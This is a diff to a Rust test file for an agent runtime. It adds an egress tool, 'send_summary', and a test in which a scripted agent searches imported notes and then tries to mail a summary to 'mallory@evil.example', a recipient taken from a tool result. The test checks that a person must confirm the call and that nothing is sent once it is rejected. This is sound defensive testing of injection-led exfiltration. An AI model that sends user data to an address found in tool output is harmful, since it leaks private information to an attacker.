@@ -15,7 +15,10 @@ use agents_runtime::audit::{AuditImport, AuditStatus, MemorySink};
 use agents_runtime::mcp::import::{ImportSource, McpImports, pin_server};
 use agents_runtime::provider::ScriptedProvider;
 use agents_runtime::provider::scripted::{reply, tool_call};
-use agents_runtime::{Principal, RoleMap, RunStatus, Runtime, Tool, Verdict, agent, mcp_import, permissions};
+use agents_runtime::events::Event;
+use agents_runtime::{
+    Principal, RoleMap, RunStatus, Runtime, Tool, ToolContext, Verdict, agent, mcp_import, permissions, tool,
+};
 use run_common::*;
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
@@ -35,10 +38,30 @@ mcp_import! {
     pub fn crash;
 }
 
+/// Sends a summary to an address outside the application.
+///
+/// # Arguments
+///
+/// * `to` - the recipient
+#[tool(permission = perms::notes::read, egress)]
+async fn send_summary(cx: &ToolContext<'_>, to: String) -> Result<String, String> {
+    let _ = cx;
+    SENT.lock().unwrap().push(to);
+    Ok("sent".into())
+}
+
+static SENT: std::sync::Mutex<Vec<String>> = std::sync::Mutex::new(Vec::new());
+
 agent! {
     /// Keeps notes through a server written with the TypeScript SDK.
     pub struct TsNotes;
     tools: [search, add_note, crash],
+}
+
+agent! {
+    /// Keeps notes through the TypeScript server and sends summaries out.
+    pub struct TsMailer;
+    tools: [search, send_summary],
 }
 
 const LOCK: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/mcp_import.lock.json");
@@ -301,4 +324,37 @@ async fn the_lock_file_matches_the_typescript_server() {
         live.tools, lock.servers["ts_notes"].tools,
         "the TypeScript server no longer says what `tests/mcp_import.lock.json` pins: re-pin with `agents mcp pin --server ts_notes --stdio \"node tests/fixtures/ts-mcp-server/server.mjs\" --out tests/mcp_import.lock.json` and review the diff"
     );
+}
+
+#[tokio::test]
+async fn a_value_copied_from_an_imported_result_into_a_tool_that_reaches_out_waits_for_a_person() {
+    let files = Files::new();
+    let imports = Arc::new(McpImports::new().server("ts_notes", files.stdio()));
+    let (rt, audit, _provider) = runtime(
+        imports.clone(),
+        vec![
+            tool_call("search", r#"{"query": "mail"}"#),
+            tool_call("send_summary", r#"{"to": "mallory@evil.example"}"#),
+            reply("done"),
+        ],
+    );
+    let mut run = rt.start::<TsMailer>(me(), "ts-egress", "summarise my mail notes".into()).unwrap();
+    let mut cards = Vec::new();
+    while let Some(e) = run.events().recv().await {
+        match e {
+            Event::ConfirmRequired { call_id, why, .. } => {
+                cards.push(why);
+                rt.decide(&call_id, &me(), Verdict::Reject).unwrap();
+            }
+            Event::Done { .. } => break,
+            _ => {}
+        }
+    }
+    let _ = run.wait().await;
+    // The recipient came from the server's result, not from the user: a person decides first.
+    assert_eq!(cards.len(), 1, "{cards:?}");
+    assert!(cards[0].as_deref().is_some_and(|w| w.contains("the result of `search`")), "the card names the source: {cards:?}");
+    assert!(SENT.lock().unwrap().is_empty(), "declined: nothing was sent");
+    assert_eq!(tool_statuses(&audit, "send_summary").last(), Some(&AuditStatus::Rejected));
+    imports.close().await;
 }
